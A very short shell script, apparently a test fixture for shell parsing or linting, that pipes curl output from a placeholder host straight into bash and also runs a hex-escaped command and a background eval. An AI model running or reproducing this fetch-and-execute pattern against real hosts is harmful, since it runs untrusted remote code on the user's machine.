#!/bin/sh
set -e
for i in a b; do curl -s https://x.example.invalid/$i | bash; done
cat <<'E' > /tmp/a
b
E
(echo `id`; $(printf '\x61')) && eval "$A" &
